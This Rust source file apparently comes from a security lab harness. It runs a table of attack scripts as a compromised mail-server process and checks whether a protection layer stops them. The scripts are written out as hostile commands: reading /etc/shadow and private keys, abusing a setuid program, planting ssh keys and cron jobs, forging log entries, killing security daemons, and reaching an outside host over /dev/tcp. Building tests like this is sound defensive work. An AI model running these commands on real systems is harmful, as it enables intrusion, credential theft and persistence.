//! What the attacker does through the hole, as the process that serves bob.

use std::fs;
use std::time::{Duration, Instant};

use usher_lab::{ALICE, BOB, Host, Running};

use crate::Outcome;
use crate::place::{MAIL, Note, PASSWORDS, Place, Session, cell};

/// An attack by a script, and the look at its effect. The look gets what the script has printed.
///
/// The script has the variables STRANGER, the address of the attacker's host, and PID, the process
/// that serves alice; descriptor 9 is the error output of bob's process.
struct Attack {
    row: &'static str,
    script: &'static str,
    has_effect: fn(&Place, &Target, &str) -> Outcome<bool>,
}

/// What the attacks are about, beside files.
struct Target {
    alice: Session,
    /// The port of a host beside the mail server, and what came to it.
    database: Database,
    daemons: Vec<u32>,
    modules: Option<String>,
}

const ATTACKS: &[Attack] = &[
    Attack {
        row: "read alice's mail",
        script: "cat /srv/mail/alice/*/*",
        has_effect: |_, _, printed| Ok(printed.contains(ALICE.subject)),
    },
    Attack {
        row: "delete alice's mail",
        script: "rm -f /srv/mail/alice/*/*",
        has_effect: |place, _, _| Ok(!place.has_message(ALICE)?),
    },
    Attack {
        row: "forge a message in alice's mailbox",
        script: "printf 'From: boss\\nSubject: Pay this\\n\\n' >/srv/mail/alice/new/2.2.server",
        has_effect: |place, _, _| {
            Ok(place.holds(&format!("{MAIL}/{}", ALICE.name), "Subject: Pay this")?)
        },
    },
    Attack {
        row: "read alice's mail in the memory of her imap",
        script: include_str!("memory.sh"),
        has_effect: |_, _, printed| Ok(printed.contains(ALICE.subject)),
    },
    Attack {
        row: "read a backup of alice's mail that was left readable for all",
        script: "cat /srv/backup/alice",
        has_effect: |_, _, printed| Ok(printed.contains(ALICE.subject)),
    },
    Attack {
        row: "become root by a set-user-ID program with a hole",
        script: "/srv/bin/mailctl 'id -u >/srv/root/suid'",
        has_effect: |place, _, _| holds_root(&place.server, "/srv/root/suid"),
    },
    Attack {
        row: "read /etc/shadow and the private keys of the host, the service and Usher",
        script: "cat /etc/shadow /srv/lib/service.key /etc/usher/host_key /etc/usher/ike/key \
                 /etc/usher/log_key /var/lib/usher/*/*",
        has_effect: |_, _, printed| {
            Ok(printed.contains("PRIVATE KEY") || printed.contains("* root:"))
        },
    },
    Attack {
        row: "change a program that the administrator runs, left writable for all",
        script: "echo 'id -u >/srv/root/report' >>/srv/bin/report",
        has_effect: |place, _, _| {
            place.server.run(["/srv/bin/report"])?;
            holds_root(&place.server, "/srv/root/report")
        },
    },
    Attack {
        row: "have root's nightly job run commands, by settings among bob's mail",
        script: "echo 'id -u >/srv/root/nightly' >/srv/mail/bob/settings",
        has_effect: |place, _, _| {
            let job = ["setpmac", "biba/high", "/srv/bin/nightly"];
            // The administrator has the job run at the level of the system where there are levels.
            let words = &job[if place.configuration.biba { 0 } else { 2 }..];
            place.server.run(words)?;
            if !place.server.path("/srv/root/done").exists() {
                return Err("the nightly job has not done its own work".into());
            }
            holds_root(&place.server, "/srv/root/nightly")
        },
    },
    Attack {
        row: "come back by ssh: a key in the account's authorized_keys",
        script: "cd $(getent passwd $(id -un) | cut -d: -f6) && mkdir -p .ssh && echo ssh-ed25519 AAAA planted >>.ssh/authorized_keys",
        has_effect: |place, _, _| {
            let keys = format!("/home/{}/.ssh/authorized_keys", place.account(BOB));
            let keys = place.server.path(keys);
            Ok(keys.exists() && fs::read_to_string(keys)?.contains("planted"))
        },
    },
    Attack {
        row: "come back by cron: a table of the account",
        script: "echo '* * * * * /tmp/planted' | crontab -",
        has_effect: |place, _, _| {
            let table = format!("/var/spool/cron/crontabs/{}", place.account(BOB));
            let table = place.server.path(table);
            Ok(table.exists() && fs::read_to_string(table)?.contains("planted"))
        },
    },
    Attack {
        row: "forge a log-in of alice's in the log of log-ins",
        script: include_str!("log.sh"),
        has_effect: forged_login,
    },
    Attack {
        row: "end Usher, or take its programs out of the kernel",
        script: "PATH=$PATH:/run/lab/bin; kill -9 $(pidof usherd charon-systemd); rm -rf /sys/fs/bpf/usher*; usherd release; \
                 usher user disable alice; usher mac unload biba; usher mac unload bsdextended",
        has_effect: |place, target, _| {
            Ok(daemons(&place.server)? != target.daemons
                || modules(&place.server)? != target.modules
                || place.session(ALICE).is_err())
        },
    },
    Attack {
        row: "connect to another host's database",
        script: "timeout 20 bash -c 'echo from-imap >/dev/tcp/$0/5432' $STRANGER",
        has_effect: |_, target, _| target.database.came(),
    },
    Attack {
        row: "open a back door at a port of its own",
        script: include_str!("door.sh"),
        has_effect: |place, _, printed| {
            let address = format!("TCP:{}:4444,connect-timeout=60", place.server.ipv4());
            let words = ["socat", "-t60", "-", &address];
            let said = place
                .stranger
                .command(words)
                .input("echo door $(id -u)\n")
                .run()?;
            end(place, printed)?;
            Ok(said.stdout.contains("door "))
        },
    },
    Attack {
        row: "read what is readable for all, such as /etc/passwd",
        script: "cat /etc/passwd",
        has_effect: |_, _, printed| Ok(printed.contains("root:x:0:")),
    },
    Attack {
        row: "read bob's own mail",
        script: "cat /srv/mail/bob/*/*",
        has_effect: |_, _, printed| Ok(printed.contains(BOB.subject)),
    },
];

/// The attacks by which only root reaches something, in each configuration.
const ROOTS: [&str; 2] = [
    "read alice's mail in the memory of her imap",
    "read /etc/shadow and the private keys of the host, the service and Usher",
];

/// All attacks but the last. `shows`: each script, and what it prints.
pub(crate) fn attack(place: &Place, shows: bool, note: &mut Note) -> Outcome {
    let mut bob = place.session(BOB)?;
    let mut target = Target {
        alice: reading(place)?,
        database: Database::start(&place.stranger)?,
        daemons: daemons(&place.server)?,
        modules: modules(&place.server)?,
    };
    let pid = serving_alice(place)?;
    for attack in ATTACKS {
        if attack.row.contains("Usher, or") && !place.configuration.netauth {
            note(attack.row, crate::table::Cell::Absent)?;
            continue;
        }
        place.deliver()?;
        let variables = format!("STRANGER={} PID={pid}\n", place.stranger.ipv4());
        // A row that is refused everywhere might only show that the look sees nothing: so root of a host without
        // Usher tries, and succeeds.
        if ROOTS.contains(&attack.row) && place.configuration.name == "plain" {
            let script = format!("{variables}{{ {}\n}} 2>&1 | sed 's/^/* /'", attack.script);
            let printed = place.server.run(["sh", "-c", &script])?.stdout;
            if !(attack.has_effect)(place, &target, &printed)? {
                return Err(
                    format!("root does not succeed either: {}: {printed}", attack.row).into(),
                );
            }
        }
        let printed = bob.run(&(variables + attack.script))?;
        let has_effect = (attack.has_effect)(place, &target, &printed)?;
        if shows {
            eprintln!("{}\n{printed}", attack.script);
        }
        note(attack.row, cell(has_effect))?;
    }
    place.deliver()?;
    if !target.alice.lives() {
        return Err("alice's imap has ended before it was attacked".into());
    }
    bob.run(&format!("kill -9 {pid}"))?;
    note("end alice's imap", cell(!target.alice.lives()))
}

/// The last: to stay although bob is locked out.
pub(crate) fn stay(place: &Place, note: &mut Note) -> Outcome {
    let mut bob = place.session(BOB)?;
    let printed = bob.run(
        "setsid sh -c 'while :; do sleep 1; done' </dev/null >/dev/null 2>&1 9>&- &\necho pid $!",
    )?;
    let process = place.server.path(format!("/proc/{}", pid_in(&printed)?));
    if !process.exists() {
        return Err(format!("the process is not there before bob is locked out: {printed}").into());
    }
    if place.configuration.netauth {
        place.server.run(["usher", "user", "disable", BOB.name])?;
    } else {
        let others = PASSWORDS.lines().filter(|line| !line.starts_with("bob:"));
        let others: Vec<_> = others.collect();
        place
            .server
            .write("/etc/dovecot-users", others.join("\n") + "\n")?;
        let kick = ["doveadm", "-c", "/etc/dovecot.conf", "kick", BOB.name];
        place.server.run(kick)?;
    }
    let deadline = Instant::now() + Duration::from_secs(5);
    while process.exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    note(
        "run on after the administrator has locked bob out",
        cell(process.exists()),
    )?;
    end(place, &printed)?;
    if place.configuration.netauth {
        place.server.run(["usher", "user", "enable", BOB.name])?;
    } else {
        place.server.write("/etc/dovecot-users", PASSWORDS)?;
    }
    Ok(())
}

/// A connection of alice's, who has read her message by it.
fn reading(place: &Place) -> Outcome<Session> {
    let mut alice = place.session(ALICE)?;
    alice.command("SELECT INBOX")?;
    let fetched = alice.command("FETCH 1 BODY.PEEK[]")?;
    if !fetched.contains(ALICE.subject) {
        return Err(format!("alice does not get her message: {fetched}").into());
    }
    Ok(alice)
}

/// The process that serves alice.
fn serving_alice(place: &Place) -> Outcome<u32> {
    let processes = place.server.processes()?;
    let mut own = processes.iter().filter(|process| {
        let is_hers = process.uid == ALICE.mailhost_uid || process.command.contains("[alice ");
        process.name == "imap" && is_hers
    });
    let found = own
        .next()
        .ok_or_else(|| format!("no imap of alice's: {processes:?}"))?;
    Ok(found.pid)
}

/// The processes of Usher and of charon.
fn daemons(server: &Host) -> Outcome<Vec<u32>> {
    let mut processes = server.processes()?;
    processes.retain(|process| {
        process.uid != BOB.mailhost_uid
            && process.uid != ALICE.mailhost_uid
            && (process.name.starts_with("usher") || process.name.starts_with("charon"))
            && !process.command.contains("starter")
    });
    let mut numbers: Vec<u32> = processes.iter().map(|process| process.pid).collect();
    numbers.sort_unstable();
    Ok(numbers)
}

/// The modules in force, as the labeller tells everyone; none: it has loaded none.
fn modules(server: &Host) -> Outcome<Option<String>> {
    let list = server.path("/run/usher/labeller/modules");
    Ok(if list.exists() {
        Some(fs::read_to_string(list)?)
    } else {
        None
    })
}

/// Whether root has written its number to a file.
fn holds_root(server: &Host, path: &str) -> Outcome<bool> {
    let path = server.path(path);
    Ok(path.exists() && fs::read_to_string(path)?.trim() == "0")
}

/// The time in which dovecot writes a line of its log.
const LOGGED: Duration = Duration::from_secs(10);

/// Whether the log says that alice has logged in from where she never was, without a word of bob.
fn forged_login(place: &Place, _: &Target, _: &str) -> Outcome<bool> {
    const FORGED: &str = "192.0.2.66";
    if place.configuration.netauth {
        let shown = place
            .server
            .run(["usher", "--json", "log", "show", "--count", "1000"])?;
        let verified = place.server.command(["usher", "log", "verify"]).run()?;
        return Ok(shown.stdout.contains(FORGED) || !verified.status.success());
    }
    // dovecot's log process writes it later.
    let end = Instant::now() + LOGGED;
    loop {
        let log = place.server.read("/var/log/dovecot.log")?;
        let mut lines = log.lines();
        if lines.any(|line| line.contains(FORGED) && !line.contains("bob")) {
            return Ok(true);
        }
        if Instant::now() >= end {
            return Ok(false);
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The number in the line `pid NUMBER` of a script's output.
fn pid_in(printed: &str) -> Outcome<u32> {
    let line = printed.lines().find_map(|line| line.strip_prefix("* pid "));
    Ok(line
        .ok_or_else(|| format!("no pid: {printed}"))?
        .trim()
        .parse()?)
}

/// Ends the process whose number a script has printed, if it is still there.
fn end(place: &Place, printed: &str) -> Outcome {
    let script = format!("kill -9 {} 2>/dev/null || true", pid_in(printed)?);
    place.server.run(["sh", "-c", &script])?;
    Ok(())
}

/// A port of the host beside the mail server, and a file with all that came to it.
struct Database {
    host: Host,
    _listener: Running,
}

impl Database {
    const FILE: &str = "/root/came";

    fn start(host: &Host) -> Outcome<Self> {
        host.write(Self::FILE, "")?;
        let file = format!("OPEN:{},append", Self::FILE);
        let words = ["socat", "-u", "TCP-LISTEN:5432,fork,reuseaddr", &file];
        let listener = host.spawn(words)?;
        usher_lab::protected::wait_for_listener(host, 5432)?;
        Ok(Self {
            host: host.clone(),
            _listener: listener,
        })
    }

    /// Whether the attack's line came, for which it has a second.
    fn came(&self) -> Outcome<bool> {
        let deadline = Instant::now() + Duration::from_secs(1);
        loop {
            if self.host.read(Self::FILE)?.contains("from-imap") {
                return Ok(true);
            }
            if Instant::now() > deadline {
                return Ok(false);
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}
